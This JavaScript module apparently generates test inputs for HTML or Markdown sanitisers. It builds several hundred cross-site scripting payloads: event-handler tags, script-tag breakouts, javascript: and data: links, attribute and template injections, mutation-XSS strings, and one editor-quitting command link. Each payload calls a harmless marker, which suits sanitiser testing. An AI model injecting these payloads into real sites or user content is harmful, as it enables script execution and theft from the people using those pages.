// Strings that run a script where a page makes HTML of text. Each calls `mark`, so that a run is noticed.

/**
 * @param {string} mark a call, such as `hit()`
 * @returns {string[]} more than 300, of many families
 */
export function injections(mark) {
  const events = [
    'onerror',
    'onload',
    'onclick',
    'onfocus',
    'onmouseover',
    'ontoggle',
    'onanimationstart',
    'onpointerenter',
    'onbeforetoggle',
    'onscroll',
    'onstart',
    'onbegin',
    'onwheel',
    'oncopy',
    'onpaste',
    'oninput',
  ];
  const tags = [
    'img src=x',
    'svg',
    'body',
    'details open',
    'video src=x',
    'audio src=x',
    'iframe',
    'input autofocus',
    'select autofocus',
    'marquee',
    'object data=x',
    'embed src=x',
    'math',
    'button autofocus',
    'style',
    'link rel=stylesheet href=x',
  ];
  const inTags = tags.flatMap((tag, index) =>
    events.map(
      (event, other) =>
        `<${tag} ${event}=${(index + other) % 3 === 0 ? `"${mark}"` : (index + other) % 3 === 1 ? `'${mark}'` : mark}>`,
    ),
  );
  const inScripts = [
    `<script>${mark}</script>`,
    `<SCRIPT>${mark}</SCRIPT>`,
    `<script >${mark}</script >`,
    `<scr<script>ipt>${mark}</scr</script>ipt>`,
    `<script/x>${mark}</script>`,
    `<script src="data:text/javascript,${mark}"></script>`,
    `<script type=module>${mark}</script>`,
    `</script><script>${mark}</script>`,
    `</title><script>${mark}</script>`,
    `</textarea><script>${mark}</script>`,
    `</style><script>${mark}</script>`,
    `--><script>${mark}</script>`,
    `]]><script>${mark}</script>`,
    `"><script>${mark}</script>`,
    `'><script>${mark}</script>`,
    `\u0000<script>${mark}</script>`,
    `<script>\u2028${mark}</script>`,
    `＜script＞${mark}＜/script＞`,
  ];
  const inAddresses = [
    `[a](javascript:${mark})`,
    `[a](JaVaScRiPt:${mark})`,
    `[a](java\tscript:${mark})`,
    `[a](&#106;avascript:${mark})`,
    `<javascript:${mark}>`,
    `[a](data:text/html,<script>${mark}</script>)`,
    `![a](javascript:${mark})`,
    `[a](vbscript:${mark})`,
    `<a href="javascript:${mark}">a</a>`,
    `<form action="javascript:${mark}"><button>`,
    `<iframe src="javascript:${mark}">`,
    `<base href="javascript:${mark}//">`,
    `<meta http-equiv=refresh content="0;javascript:${mark}">`,
    `[a](command:workbench.action.quit)`,
    `[a]: javascript:${mark}`,
    `<svg><a xlink:href="javascript:${mark}"><text>a</text></a></svg>`,
  ];
  const inAttributes = ['"', "'", '`', '" ', "' "].flatMap((quote) =>
    ['onfocus', 'onmouseover', 'onclick', 'style'].map(
      (name) => `x${quote}${name}=${quote}${mark}${quote} autofocus`,
    ),
  );
  const inTemplates = [
    `\${${mark}}`,
    `{{${mark}}}`,
    `{{constructor.constructor('${mark}')()}}`,
    `<%= ${mark} %>`,
    `#{${mark}}`,
    `$(${mark})`,
    `@{${mark}}`,
    `{%${mark}%}`,
    `<template><img src=x onerror=${mark}></template>`,
    `javascript:${mark}`,
    `$(sync~spin) ${mark}`,
    `eval('${mark}')`,
    `*/${mark}/*`,
    `';${mark};'`,
    `");${mark};("`,
    `\\u003cscript\\u003e${mark}`,
  ];
  const broken = [
    `<<img src=x onerror=${mark}>>`,
    `<img src=x onerror=${mark}//`,
    `<img/src=x/onerror=${mark}>`,
    `<svg><script>${mark}`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${mark}>`,
    `<noscript><p title="</noscript><img src=x onerror=${mark}>">`,
    `<svg><style><img src=x onerror=${mark}></style>`,
    `<a title="&quot;><img src=x onerror=${mark}>">a</a>`,
    `&lt;img src=x onerror=${mark}&gt;`,
    `&#60;img src=x onerror=${mark}&#62;`,
    `%3Cimg src=x onerror=${mark}%3E`,
  ];
  return [...inTags, ...inScripts, ...inAddresses, ...inAttributes, ...inTemplates, ...broken];
}
